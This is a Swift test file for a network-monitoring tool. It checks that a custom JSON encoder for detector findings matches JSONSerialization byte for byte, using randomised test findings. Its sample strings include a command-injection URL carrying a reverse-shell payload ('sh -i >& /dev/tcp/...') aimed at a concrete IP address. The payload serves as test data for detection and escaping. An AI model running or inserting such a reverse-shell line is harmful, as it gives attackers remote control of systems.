import FleetModel
import Foundation
import Testing

@testable import ZeekLogs

/// `FindingJSON` must write what `JSONSerialization` writes for `Finding.jsonObject` (sorted keys,
/// slashes unescaped): the query API and `fleetctl analyze -o json` switched to it from there.
@Suite struct FindingJSONTests {
    static func foundationLine(_ finding: Finding) -> [UInt8] {
        guard let data = try? JSONSerialization.data(
            withJSONObject: finding.jsonObject, options: [.sortedKeys, .withoutEscapingSlashes])
        else { return [] }
        return [UInt8](data) + [0x0a]
    }

    static let awkward = [
        "", "plain", "q\"uote", "back\\slash", "/dev/tcp/35.217.6.162/3000", "tab\there", "nl\ncr\r",
        "\u{8}\u{c}\u{1}\u{1f}", "del\u{7f}", "é😀\u{2028}", "GET /dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1",
    ]

    static func finding(_ seed: Int) -> Finding {
        var state = UInt64(seed) &* 0x9E37_79B9_7F4A_7C15 | 1
        func next(_ bound: Int) -> Int {
            state ^= state << 13
            state ^= state >> 7
            state ^= state << 17
            return Int(state % UInt64(bound))
        }
        func text() -> String { awkward[next(awkward.count)] + (next(2) == 0 ? "" : String(next(100_000))) }
        let hosts: [IPAddress] = [.v4(0x0A01_0203), .v4(0x2311_06A2), .v6(0x2001_0db8_0000_0000, 1), .v6(0xfe80_0000_0000_0000, 0x1234)]
        let flows = (0..<next(3)).map { _ in
            Finding.Flow(
                ConnID(originatorHost: hosts[next(4)], originatorPort: UInt16(next(65_536)),
                       responderHost: hosts[next(4)], responderPort: UInt16(next(65_536))),
                [TransportProtocol.tcp, .udp, .icmp][next(3)])
        }
        // Keys as detectors name them (lower-case words joined by `_`, some prefixes of others), repeated
        // (the last value wins).
        let keys = [
            "uri", "uri_raw", "resp_bytes", "responder_port", "callback", "callback_bytes", "decoded", "decoded_payload",
            "ds_score", "duration_s", "conn_state", "known_names", "uri",
        ]
        let evidence = (0..<next(6)).map { _ in Finding.Evidence(keys[next(keys.count)], text()) }
        let scores = [0, 1, 0.85, 0.3, 1e-7, 0.123456789, 0.5]
        let micros: [Int64] = [0, 1, 1_764_000_516_515_572, 1_764_000_500_059_070, 1_300_475_167_000_000, 999_999]
        var finding = Finding(
            detector: ["injection-callback", "unexplained-direct-ip", "beaconing"][next(3)], key: text(),
            severity: Severity.allCases[next(Severity.allCases.count)], score: scores[next(scores.count)],
            agentID: text(), host: next(3) == 0 ? nil : hosts[next(4)], flows: flows,
            uids: (0..<next(4)).map { _ in "C" + String(next(1_000_000)) },
            firstSeen: NetworkTime(microseconds: micros[next(micros.count)]),
            lastSeen: NetworkTime(microseconds: micros[next(micros.count)]),
            indicators: Finding.Indicators(
                addresses: (0..<next(3)).map { _ in hosts[next(4)] }, domains: (0..<next(3)).map { _ in text() },
                uris: (0..<next(3)).map { _ in text() }),
            evidence: evidence, summary: text())
        finding.revision = next(5) + 1
        return finding
    }

    @Test func matchesJSONSerializationByteForByte() {
        for seed in 0..<400 {
            let finding = Self.finding(seed)
            let ours = FindingJSON.line(finding)
            let reference = Self.foundationLine(finding)
            #expect(ours == reference, "seed \(seed): \(String(decoding: ours, as: UTF8.self)) vs \(String(decoding: reference, as: UTF8.self))")
        }
    }

    /// Evidence keys sort by code point. (`JSONSerialization` compares keys case-insensitively with
    /// numeric ordering; the two agree on the detectors' lower-case `snake_case` keys.)
    @Test func evidenceKeysInCodePointOrder() {
        let finding = Finding(
            detector: "d", key: "k", severity: .low, score: 0.5, agentID: "a",
            firstSeen: NetworkTime(microseconds: 0), lastSeen: NetworkTime(microseconds: 0),
            evidence: [.init("b", "1"), .init("alpha_1", "2"), .init("Zeta", "3"), .init("alpha2", "4"), .init("b", "5")],
            summary: "s")
        let text = String(decoding: FindingJSON.line(finding), as: UTF8.self)
        #expect(text.contains(#""evidence":{"Zeta":"3","alpha2":"4","alpha_1":"2","b":"5"}"#))
    }

    @Test func numbersAsJSONSerializationPrintsThem() {
        for (value, text) in [(1.0, "1"), (0.85, "0.85"), (1e-7, "1e-07"), (100.0, "100"), (1764000516.515572, "1764000516.515572")] {
            var output: [UInt8] = []
            FindingJSON.number(value, &output)
            #expect(String(decoding: output, as: UTF8.self) == text)
        }
        var output: [UInt8] = []
        FindingJSON.number(.nan, &output)
        #expect(String(decoding: output, as: UTF8.self) == "null")
    }
}
